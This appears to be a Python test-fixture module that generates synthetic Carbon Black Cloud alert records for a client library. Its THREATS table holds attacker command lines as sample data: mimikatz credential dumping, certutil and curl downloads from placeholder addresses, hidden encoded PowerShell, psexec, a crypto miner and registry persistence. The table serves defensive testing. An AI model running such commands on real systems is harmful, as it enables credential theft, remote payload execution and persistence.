"""Cloud alert records as generated: the behaviours alerts are raised for (one per threat,
Windows and Unix variants), the alert kinds with their weights, and :func:`alert_row`, which
builds alert ``i`` from the seed alone. What a client changes later (workflow, notes) is kept
apart, in :class:`~cbasync.testing.dataset.cloud.alerts.AlertStore`.
"""

from __future__ import annotations

import hashlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from cbasync.testing.dataset.cloud.common import GeneratedSet, iso, mix, stable, uuid_of, weighted
from cbasync.testing.dataset.endpoints import Endpoint

__all__ = [
    "ALERT_TYPES",
    "ALERT_WATCHLISTS",
    "IDS_SIGNATURES",
    "K8S_WORKLOADS",
    "SENSOR_ACTIONS",
    "THREATS",
    "USB_DEVICES",
    "Threat",
    "Workflow",
    "alert_row",
]


@dataclass(frozen=True)
class Threat:
    """A process behaviour that alerts are raised for."""

    name: str
    path_windows: str
    path_unix: str
    cmdline: str
    reputation: str
    parent: str
    reason: str
    ttps: tuple[str, ...]
    tactic: str

    def sha256(self) -> str:
        return hashlib.sha256(self.name.encode()).hexdigest()

    def md5(self) -> str:
        return hashlib.md5(self.name.encode(), usedforsecurity=False).hexdigest()


THREATS: tuple[Threat, ...] = (
    Threat("powershell.exe", "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe", "/usr/bin/pwsh", "powershell.exe -nop -w hidden -enc SQBFAFgA", "TRUSTED_WHITE_LIST", "winword.exe", "The application powershell.exe executed a fileless script or command.", ("FILELESS", "POLICY_TERMINATE", "MITRE_T1059_001_POWERSHELL"), "TA0002"),
    Threat("mimikatz.exe", "c:\\users\\public\\mimikatz.exe", "/tmp/mimikatz", "mimikatz.exe privilege::debug sekurlsa::logonpasswords exit", "KNOWN_MALWARE", "cmd.exe", "A known malware process (mimikatz.exe) attempted to read the memory of lsass.exe.", ("KNOWN_MALWARE", "READ_SECURITY_DATA", "MITRE_T1003_CREDENTIAL_DUMP"), "TA0006"),
    Threat("rundll32.exe", "c:\\windows\\system32\\rundll32.exe", "/usr/bin/rundll32", "rundll32.exe C:\\Users\\Public\\payload.dll,DllRegisterServer", "TRUSTED_WHITE_LIST", "explorer.exe", "The application rundll32.exe loaded an unsigned library from a public folder.", ("SUSPICIOUS_BEHAVIOR", "MITRE_T1218_011_RUNDLL32"), "TA0005"),
    Threat("invoice.pdf.exe", "c:\\users\\{user}\\downloads\\invoice.pdf.exe", "/home/{user}/invoice.pdf", "\"C:\\Users\\{user}\\Downloads\\invoice.pdf.exe\"", "SUSPECT_MALWARE", "outlook.exe", "A suspected malware file (invoice.pdf.exe) was executed from the Downloads folder.", ("SUSPECT_MALWARE", "RAN_UNTRUSTED", "MITRE_T1204_002_MALICIOUS_FILE"), "TA0002"),
    Threat("certutil.exe", "c:\\windows\\system32\\certutil.exe", "/usr/bin/certutil", "certutil.exe -urlcache -split -f http://203.0.113.77/a.exe a.exe", "TRUSTED_WHITE_LIST", "cmd.exe", "The application certutil.exe downloaded a file from an untrusted address.", ("NETWORK_ACCESS", "MITRE_T1105_INGRESS_TOOL_TRANSFER"), "TA0011"),
    Threat("psexec.exe", "c:\\tools\\psexec.exe", "/usr/local/bin/psexec", "psexec.exe \\\\DC01 -s cmd.exe", "ADAPTIVE_WHITE_LIST", "cmd.exe", "The application psexec.exe started a remote service.", ("LATERAL_MOVEMENT", "MITRE_T1569_002_SERVICE_EXECUTION"), "TA0008"),
    Threat("curl", "c:\\windows\\system32\\curl.exe", "/usr/bin/curl", "curl -s http://203.0.113.50/install.sh", "TRUSTED_WHITE_LIST", "bash", "The application curl fetched a script piped into a shell.", ("RUN_CMD_SHELL", "MITRE_T1059_004_UNIX_SHELL"), "TA0002"),
    Threat("xmrig", "c:\\users\\{user}\\appdata\\local\\temp\\xmrig.exe", "/tmp/.x/xmrig", "xmrig -o pool.example.net:3333", "KNOWN_MALWARE", "bash", "A cryptocurrency miner (xmrig) was detected and terminated.", ("KNOWN_MALWARE", "POLICY_TERMINATE", "MITRE_T1496_RESOURCE_HIJACKING"), "TA0040"),
    Threat("wscript.exe", "c:\\windows\\system32\\wscript.exe", "/usr/bin/wscript", "wscript.exe C:\\Users\\{user}\\AppData\\Local\\Temp\\update.js", "TRUSTED_WHITE_LIST", "chrome.exe", "The application wscript.exe executed a script downloaded by a browser.", ("SUSPICIOUS_BEHAVIOR", "MITRE_T1059_007_JAVASCRIPT"), "TA0002"),
    Threat("reg.exe", "c:\\windows\\system32\\reg.exe", "/usr/bin/reg", "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\ProgramData\\upd.exe", "TRUSTED_WHITE_LIST", "cmd.exe", "The application reg.exe added an autorun entry.", ("PERSISTENCE", "MITRE_T1547_001_REGISTRY_RUN_KEYS"), "TA0003"),
)  # fmt: skip


ALERT_TYPES: tuple[tuple[str, int], ...] = (
    ("CB_ANALYTICS", 50),
    ("WATCHLIST", 30),
    ("DEVICE_CONTROL", 6),
    ("CONTAINER_RUNTIME", 4),
    ("HOST_BASED_FIREWALL", 5),
    ("INTRUSION_DETECTION_SYSTEM", 5),
)


ALERT_WATCHLISTS = (
    ("NT2FaWdORZWY1YUTcEpULA", "ATT&CK Framework"),
    ("9x0timurQkQA0NdyCVgLg", "Suspicious Indicators"),
    ("w7iTsKs4QPKfgodG8dLLiw", "AMSI Threat Intelligence"),
)


SENSOR_ACTIONS = ("DENY", "TERMINATE", "ALLOW", "ALLOW_AND_LOG")


@dataclass
class Workflow:
    """An alert's user-changeable state."""

    status: str = "OPEN"
    closure_reason: str = "NO_REASON"
    note: str | None = None
    changed_by: str = "ALERT_CREATION"
    changed_by_type: str = "SYSTEM"
    change_timestamp: float = 0.0
    determination: str = "NONE"


def alert_row(alerts: GeneratedSet, i: int) -> dict[str, Any]:
    """Alert ``i`` of the set: its v7 record before any workflow change.

    The record has the fields its type has on a real server (the carbon-black-cloud-sdk's
    recorded v7 answers): every type has the common alert fields; all but CONTAINER_RUNTIME
    name a device; CB_ANALYTICS, WATCHLIST, HOST_BASED_FIREWALL and INTRUSION_DETECTION_SYSTEM
    name a process and its parent; the network types add ``netconn_*``; CONTAINER_RUNTIME has
    ``k8s_*`` instead of a device, HOST_BASED_FIREWALL and INTRUSION_DETECTION_SYSTEM the
    ``rule_*`` that fired, DEVICE_CONTROL the USB device's vendor, product and serial number.
    """
    seed, count, endpoints = alerts.seed, alerts.count, alerts.endpoints
    epoch, history, org_key = alerts.epoch, alerts.history, alerts.org_key
    h = mix(seed, i, 77)
    kind = weighted(ALERT_TYPES, h)
    ep = endpoints[(h >> 8) % len(endpoints)]
    windows = ep.os_family == "windows"
    threat_index = (h >> 16) % max(1, count // 4 or 1)
    profile = THREATS[(threat_index + (0 if windows else 6)) % len(THREATS)]
    backend = epoch - (i + 0.5) * history / max(count, 1) - (h >> 24) % 600
    first = backend - 60 - (h >> 32) % 3600
    last = backend - (h >> 40) % 60
    alert_id = uuid_of("alert", seed, i)
    sensor_action = SENSOR_ACTIONS[(h >> 3) % 4] if kind == "CB_ANALYTICS" else "ALLOW"
    if kind in ("DEVICE_CONTROL", "HOST_BASED_FIREWALL"):
        sensor_action = "DENY"
    blocked = sensor_action in ("DENY", "TERMINATE")
    row: dict[str, Any] = {
        "org_key": org_key,
        "alert_url": f"defense.conferdeploy.net/alerts?s[c][query_string]=id:{alert_id}&orgKey={org_key}",
        "id": alert_id,
        "type": kind,
        "backend_timestamp": iso(backend),
        "user_update_timestamp": None,
        "backend_update_timestamp": iso(backend + 30),
        "detection_timestamp": iso(last),
        "first_event_timestamp": iso(first),
        "last_event_timestamp": iso(last),
        "severity": 1 + (h >> 48) % 10,
        "reason": profile.reason,
        "reason_code": f"{stable('rc', profile.name):016x}"[:8]
        + ":"
        + f"{stable('rc2', kind):016x}"[:8],
        "threat_id": f"{stable('threat', seed, threat_index):032X}"[:32],
        "primary_event_id": f"{stable('event', seed, i):032x}"[:22],
        "policy_applied": "APPLIED" if blocked else "NOT_APPLIED",
        "run_state": "DID_NOT_RUN" if blocked else "RAN",
        "sensor_action": sensor_action,
        "tags": ["emulated"] if i % 11 == 0 else [],
        "is_updated": False,
        "mdr_alert": False,
        "mdr_alert_notes_present": False,
        "mdr_threat_notes_present": False,
        "alert_origin": "MDR_THREAT_HUNT" if i % 97 == 5 else "PRODUCT",
    }
    if kind != "CONTAINER_RUNTIME":
        row.update(_device_fields(ep))
    if kind in ("CB_ANALYTICS", "WATCHLIST", "HOST_BASED_FIREWALL", "INTRUSION_DETECTION_SYSTEM"):
        row.update(_process_fields(org_key, ep, profile, h))
    if kind in ("CONTAINER_RUNTIME", "HOST_BASED_FIREWALL", "INTRUSION_DETECTION_SYSTEM"):
        row.update(_netconn_fields(kind, ep, h))
    row.update(_KIND_FIELDS[kind](profile, h))
    # The workflow it was created with (rendered as is until someone changes it).
    created = row["backend_timestamp"]
    row["workflow"] = {
        "change_timestamp": created,
        "changed_by_type": "SYSTEM",
        "changed_by": "ALERT_CREATION",
        "closure_reason": "NO_REASON",
        "status": "OPEN",
    }
    row["determination"] = {
        "change_timestamp": created,
        "value": "NONE",
        "changed_by_type": "SYSTEM",
        "changed_by": "ALERT_CREATION",
    }
    return row


def _device_fields(ep: Endpoint) -> dict[str, Any]:
    return {
        "device_id": ep.device_id,
        "device_name": ep.hostname,
        "device_uem_id": "",
        "device_target_value": "HIGH" if ep.host_type != "workstation" else "MEDIUM",
        "device_policy": ep.policy_name,
        "device_policy_id": ep.policy_id,
        "device_os": ep.cloud_os,
        "device_os_version": ep.cloud_os_version,
        "device_username": ep.username,
        "device_location": "OFFSITE" if ep.index % 4 == 1 else "ONSITE",
        "device_external_ip": ep.external_ip,
        "device_internal_ip": ep.internal_ip,
    }


def _process_fields(org_key: str, ep: Endpoint, profile: Threat, h: int) -> dict[str, Any]:
    windows = ep.os_family == "windows"
    user = ep.username.rsplit("\\", 1)[-1]
    pid = 1000 + (h >> 20) % 60_000
    parent_pid = 400 + (h >> 28) % 8000
    device_guid = f"{ep.device_id & 0xFFFFFFFF:08x}"
    return {
        "process_guid": f"{org_key}-{device_guid}-{pid:08x}-00000000-1d{(h >> 4) % 16**13:013x}",
        "process_pid": pid,
        "process_name": profile.name,
        "process_sha256": profile.sha256(),
        "process_md5": profile.md5(),
        "process_effective_reputation": profile.reputation,
        "process_reputation": profile.reputation,
        "process_cmdline": profile.cmdline.replace("{user}", user),
        "process_username": ep.username,
        "process_issuer": [],
        "process_publisher": [],
        "parent_guid": f"{org_key}-{device_guid}-{parent_pid:08x}-00000000-1d{(h >> 6) % 16**13:013x}",
        "parent_pid": parent_pid,
        "parent_name": profile.parent,
        "parent_sha256": hashlib.sha256(profile.parent.encode()).hexdigest(),
        "parent_md5": hashlib.md5(profile.parent.encode(), usedforsecurity=False).hexdigest(),
        "parent_effective_reputation": "TRUSTED_WHITE_LIST",
        "parent_reputation": "TRUSTED_WHITE_LIST",
        "parent_cmdline": profile.parent,
        "parent_username": ep.username,
        "childproc_guid": "",
        "childproc_username": "",
        "childproc_cmdline": "",
        "process_path": (profile.path_windows if windows else profile.path_unix).replace(
            "{user}", user
        ),
    }


def _netconn_fields(kind: str, ep: Endpoint, h: int) -> dict[str, Any]:
    inbound = kind == "INTRUSION_DETECTION_SYSTEM"
    local = (
        f"10.244.{(h >> 12) % 250}.{(h >> 20) % 250 + 2}"
        if kind == "CONTAINER_RUNTIME"
        else ep.internal_ip
    )
    remote = f"{'198.51.100' if inbound else '203.0.113'}.{h % 250 + 1}"
    return {
        "netconn_remote_port": 51_000 + h % 1000 if inbound else 443,
        "netconn_local_port": 8080 if inbound else 49_152 + (h >> 8) % 16_000,
        "netconn_protocol": "TCP",
        "netconn_remote_domain": "" if inbound else f"cdn{h % 7}.example.net",
        "netconn_remote_ip": remote,
        "netconn_local_ip": local,
        "netconn_remote_ipv4": remote,
        "netconn_local_ipv4": local,
    }


def _analytics_fields(profile: Threat, h: int) -> dict[str, Any]:
    return {
        "ttps": list(profile.ttps),
        "attack_tactic": profile.tactic,
        "attack_technique": profile.ttps[-1].split("_")[1] if "MITRE" in profile.ttps[-1] else "",
        "blocked_threat_category": "NON_MALWARE" if h % 4 < 2 else "UNKNOWN",
        "not_blocked_threat_category": "UNKNOWN",
        "kill_chain_status": ["INSTALL_RUN"],
        "threat_cause_vector": "WEB" if h % 3 else "EMAIL",
    }


def _watchlist_fields(profile: Threat, h: int) -> dict[str, Any]:
    wl_id, wl_name = ALERT_WATCHLISTS[h % len(ALERT_WATCHLISTS)]
    return {
        "ttps": list(profile.ttps),
        "watchlists": [{"id": wl_id, "name": wl_name}],
        "report_id": f"{wl_id}-{profile.tactic}",
        "report_name": f"Suspicious {profile.name}",
        "report_link": "https://attack.mitre.org/tactics/" + profile.tactic,
        "report_tags": [profile.tactic.lower()],
        "report_description": profile.reason,
        "ioc_id": f"{stable('ioc', profile.name):016x}",
        "ioc_field": "process_name",
        "ioc_hit": f"process_name:{profile.name}",
        "reason": f'Process {profile.name} was detected by the report "Suspicious {profile.name}" in watchlist "{wl_name}"',
    }


def _device_control_fields(profile: Threat, h: int) -> dict[str, Any]:
    vendor, vendor_id, product, product_id = USB_DEVICES[h % len(USB_DEVICES)]
    serial = f"4C530001{h % 10**8:08d}"
    return {
        "reason": f"Access attempted on unapproved USB device {vendor} {product} (SN: {serial}). "
        "A Deny Policy Action was applied.",
        "reason_code": f"{uuid_of('dc-policy', vendor_id).upper()}:{uuid_of('dc-rule', product_id).upper()}",
        "vendor_name": vendor,
        "vendor_id": vendor_id,
        "product_name": product,
        "product_id": product_id,
        "external_device_friendly_name": f"{vendor} {product} USB Device",
        "serial_number": serial,
    }


def _firewall_fields(profile: Threat, h: int) -> dict[str, Any]:
    category, rule = uuid_of("hbfw-group", h % 3).upper(), uuid_of("hbfw-rule", h % 5).upper()
    return {
        "reason": f"Outbound TCP connection blocked by firewall rule group 'Block untrusted egress {h % 3}'.",
        "reason_code": f"{category}:{rule}",
        "rule_category_id": category,
        "rule_id": rule,
    }


def _ids_fields(profile: Threat, h: int) -> dict[str, Any]:
    name, technique = IDS_SIGNATURES[h % len(IDS_SIGNATURES)]
    category, rule = uuid_of("ids-category", name).upper(), uuid_of("ids-rule", name).upper()
    return {
        "reason": f"HTTP traffic matched IDS signature for threat {name}",
        "reason_code": f"{category}:{rule}",
        "rule_category_id": category,
        "rule_id": rule,
        "tms_rule_id": uuid_of("tms", name),
        "threat_name": name,
        "ttps": [],
        "attack_tactic": "TA0001",
        "attack_technique": technique,
    }


def _container_fields(profile: Threat, h: int) -> dict[str, Any]:
    namespace, workload, kind = K8S_WORKLOADS[h % len(K8S_WORKLOADS)]
    policy_id, rule_id = uuid_of("k8s-policy", namespace), uuid_of("k8s-rule", h % 2)
    private = h % 2 == 0
    return {
        "reason": "Detected a connection to a private network that isn't allowed for this scope"
        if private
        else "Detected a connection to a public destination that isn't allowed for this scope",
        "reason_code": f"{policy_id}:{rule_id}",
        "policy_applied": "NOT_APPLIED",
        "run_state": "RAN",
        "sensor_action": "ALLOW",
        "k8s_cluster": "prod:east-cluster",
        "k8s_namespace": namespace,
        "k8s_kind": kind,
        "k8s_workload_name": workload,
        "k8s_pod_name": f"{workload}-{(h >> 8) % 16**10:010x}-{(h >> 16) % 36**5:05d}"[:40],
        "k8s_policy_id": policy_id,
        "k8s_policy": f"{namespace} runtime policy",
        "k8s_rule_id": rule_id,
        "k8s_rule": "Allowed private destinations" if private else "Allowed public destinations",
        "connection_type": "EGRESS",
        "egress_group_id": "",
        "egress_group_name": "",
        "ip_reputation": 0,
        "remote_is_private": private,
    }


#: USB devices DEVICE_CONTROL alerts name: vendor, vendor id, product, product id.
USB_DEVICES = (
    ("SanDisk", "0x0781", "Cruzer Blade", "0x5567"),
    ("Generic", "0x058F", "Mass Storage", "0x6387"),
    ("Kingston", "0x0951", "DataTraveler 3.0", "0x1666"),
)
#: IDS signatures INTRUSION_DETECTION_SYSTEM alerts match: threat name, ATT&CK technique.
IDS_SIGNATURES = (
    ("CVE-2021-44228 Exploit", "T1190"),
    ("ET EXPLOIT Possible Apache Struts RCE", "T1190"),
    ("ET SCAN Nmap Scripting Engine User-Agent", "T1046"),
)
#: Kubernetes workloads CONTAINER_RUNTIME alerts are raised for: namespace, workload, kind.
K8S_WORKLOADS = (
    ("payments", "checkout-api", "Deployment"),
    ("kube-system", "node-exporter", "DaemonSet"),
    ("data", "postgres", "StatefulSet"),
)

_KIND_FIELDS: dict[str, Callable[[Threat, int], dict[str, Any]]] = {
    "CB_ANALYTICS": _analytics_fields,
    "WATCHLIST": _watchlist_fields,
    "DEVICE_CONTROL": _device_control_fields,
    "HOST_BASED_FIREWALL": _firewall_fields,
    "INTRUSION_DETECTION_SYSTEM": _ids_fields,
    "CONTAINER_RUNTIME": _container_fields,
}
